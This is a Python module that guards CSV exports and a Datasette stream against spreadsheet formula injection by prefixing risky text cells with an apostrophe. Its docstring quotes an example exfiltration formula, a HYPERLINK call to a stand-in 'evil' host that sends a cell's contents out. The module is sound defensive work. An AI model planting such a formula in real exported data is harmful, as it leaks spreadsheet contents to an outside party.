"""CSV cells that a spreadsheet will not run: formula injection ("CSV injection") neutralised.

Article titles, sentences and names come from the web. A cell starting with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return before one) is a formula for Excel, LibreOffice and Google
Sheets: ``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet. Such text cells get a leading
apostrophe, which spreadsheets show as text and never evaluate (the OWASP advice). Numbers stay
numbers: ``-12.5`` is left alone.

``neutralise`` serves ``veille export``; ``CsvNeutraliser`` rewrites Datasette's streamed CSV
(db.datasette_plugin.security), record by record, however the chunks are cut.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def neutralise(value: Any) -> Any:
    """The value to write in a CSV cell: text that a spreadsheet would evaluate gets a leading "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        return "'" + value
    return value


def _complete_prefix(text: str) -> int:
    """Length of the part of ``text`` made of whole CSV records (a newline outside quotes ends one)."""
    if text.endswith("\n") and text.count('"') % 2 == 0:  # Datasette's usual chunk: one whole row
        return len(text)
    quoted, end = False, 0
    for i, char in enumerate(text):
        if char == '"':
            quoted = not quoted
        elif char == "\n" and not quoted:
            end = i + 1
    return end


class CsvNeutraliser:
    """Streams CSV bytes in, neutralised CSV bytes out (UTF-8, ``\\r\\n`` line ends like Datasette)."""

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
        self._pending = ""

    def feed(self, chunk: bytes) -> bytes:
        self._pending += self._decoder.decode(chunk)
        end = _complete_prefix(self._pending)
        complete, self._pending = self._pending[:end], self._pending[end:]
        return self._rewrite(complete)

    def close(self) -> bytes:
        rest, self._pending = self._pending + self._decoder.decode(b"", final=True), ""
        return self._rewrite(rest)

    @staticmethod
    def _rewrite(text: str) -> bytes:
        if not text:
            return b""
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\r\n")
        for row in csv.reader(io.StringIO(text, newline="")):
            writer.writerow([neutralise(cell) for cell in row])
        if not text.endswith("\n"):  # an unfinished last record keeps no line end it did not have
            return out.getvalue().removesuffix("\r\n").encode("utf-8")
        return out.getvalue().encode("utf-8")
